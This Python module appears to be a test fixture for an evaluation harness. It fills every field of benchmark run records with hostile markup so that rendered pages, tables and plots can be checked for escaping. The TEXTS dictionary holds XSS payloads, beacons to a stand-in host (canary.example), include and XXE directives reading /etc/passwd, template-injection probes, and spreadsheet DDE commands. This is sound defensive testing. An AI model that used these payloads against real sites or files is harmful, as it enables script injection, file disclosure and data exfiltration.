"""Records whose every text is hostile: markup of all languages that our pages, tables and plots are written in."""

from __future__ import annotations

from pathlib import Path

from visual_records import evaluation

from eval_harness import records
from eval_harness.records import Item, Sample

SCRIPT = "window.__pwned = (window.__pwned || []).concat(document.title); alert(1); fetch('http://canary.example/a')"
TEXTS = {
    "script": f"<script>{SCRIPT}</script>",
    "end of script": f"</script><script>{SCRIPT}</script>",
    "end of an element": f"</pre></td></table></title></style></textarea><script>{SCRIPT}</script>",
    "handler": f'<img src=x onerror="{SCRIPT}">',
    "attribute": f"' onmouseover='{SCRIPT}' autofocus onfocus='{SCRIPT}' x='",
    "double attribute": f'" onfocus="{SCRIPT}" autofocus tabindex="1',
    "link": f"[click](javascript:{SCRIPT}) <a href='javascript:{SCRIPT}'>x</a>",
    "data": "<iframe src='data:text/html,<script>parent.__pwned=1</script>'></iframe><object data='data:text/html,x'>",
    "picture": "![x](http://canary.example/picture.png) <img src='//canary.example/b.png'>",
    "local picture": "![x](../../../../../../../etc/hostname.png) ![y](/etc/hostname)",
    "raw": f"```\n````\n`````{{raw}} html\n<script>{SCRIPT}</script>\n`````\n",
    "include": "\n```{include} /etc/passwd\n```\n\n.. include:: /etc/passwd\n\n.. raw:: html\n   :file: /etc/passwd\n",
    "literal include": "\n```{literalinclude} /etc/passwd\n```\n{download}`/etc/passwd` {eval-rst}`x`\n",
    "part": "\n```{part} part0\n```\n",
    "rest": "\n```{eval-rst}\n.. raw:: html\n\n   <script>window.__pwned = 1</script>\n```\n",
    "mathml": f"<math><maction actiontype='statusline' href='javascript:{SCRIPT}'><mtext></mtext></maction></math>",
    "formula": r"$\text{<script>window.__pwned=1</script>}$ $$\href{javascript:alert(1)}{x}$$ $x^{",
    "svg": f"<svg onload=\"{SCRIPT}\"><animate onbegin='{SCRIPT}' attributeName=x dur=1s></svg>",
    "style": "<style>@import 'http://canary.example/c.css'; body{background:url(http://canary.example/d.png)}</style>",
    "refresh": "<meta http-equiv='refresh' content='0;url=http://canary.example/e'><base href='http://canary.example/'>",
    "reference": "[a]: http://canary.example/f\n[a] ![b][a] <http://canary.example/g> https://canary.example/h",
    "table": "a | b |\n| --- | --- |\n| <script>window.__pwned=1</script> |",
    "template": "{{ 7 * 7 }} {% include '/etc/passwd' %} {{ ''.__class__ }}",
    "comment": "<!-- --><![CDATA[<script>window.__pwned=1</script>]]><?php x ?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "formula of a spreadsheet": "=HYPERLINK(\"http://canary.example/\"&A1;\"x\")",
    "command of a spreadsheet": "@SUM(1+9)*cmd|' /C calc'!A0",
    "terminal": "\x1b]0;pwned\x07\x1b[2J\x9b31m\x08\x7f\r",
    "invisible": "\u202e\u2066\u200b\ufeff\0",
    "backticks": "`" * 7 + " ` `` " + "`" * 3,
}  # fmt: skip
ALL = "\n".join(TEXTS.values())
"""Every one of them, in one text."""


def hostile(name: str = "") -> str:
    """A text with all of it, and a name by which to tell it from others."""
    return f"{name}{ALL}"


def hostile_run(folder: Path, benchmark: str = "math500", num: int = 3, images: bool = False) -> Path:
    """An evaluation in which every text that the schema lets be one is hostile; the first item is right.

    The name of the benchmark is a registered one: others are refused.
    """
    items = [
        Item(
            item_id=hostile(f"item{k}"),
            prompt=hostile("prompt"),
            gold=hostile("gold"),
            group=hostile("group"),
            images=(hostile("image"),) if images else (),
        )
        for k in range(num)
    ]
    samples = [
        Sample(
            item_id=item.item_id,
            sample=0,
            seed=0,
            status="failed" if k == num - 1 else "scored",
            completion=None if k == num - 1 else hostile("completion"),
            finish_reason=hostile("finish"),
            num_prompt_tokens=1,
            num_completion_tokens=1,
            correct=None if k == num - 1 else k == 0,
            correct_strict=None if k == num - 1 else False,
            extracted=hostile("extracted"),
            extracted_strict=hostile("extracted strict"),
            reason=hostile("reason"),
            reason_strict=hostile("reason strict"),
            gold_fallback=True,
            flags=(hostile("flag"),),
            extra={hostile("extra"): 0.5},
        )
        for k, item in enumerate(items)
    ]
    evaluation(folder, {benchmark: (items, samples)})
    run = records.read_run(folder)
    result = run.benchmarks[benchmark]
    decoding = result.decoding.model_copy(update={"system_prompt": hostile(folder.name)})
    result = result.model_copy(
        update={"source": hostile("source"), "prompts_hash": hostile("hash"), "decoding": decoding, "groups": {}}
    )
    mark = folder.name  # two such runs differ in everything
    run = run.model_copy(
        update={
            "run_id": hostile(mark),
            "fingerprint": hostile(mark),
            "created": hostile("created"),
            "finished": hostile("finished"),
            "model": dict.fromkeys(("name", "weights", "revision", "other"), hostile(mark)),
            "engine": dict.fromkeys(("name", "version", "dtype", "tool"), hostile(mark)),
            "settings": {"chat_template": hostile(mark), "dtype": hostile(mark), hostile("setting"): hostile(mark)},
            "benchmarks": {benchmark: result},
            "environment": {
                "commit": hostile("commit"),
                "python": hostile("python"),
                "packages": {hostile("package"): hostile("version")},
            },
            "provenance": {hostile("key"): hostile("value")},
        }
    )
    records.write_json(folder / "run.json", run)
    return folder
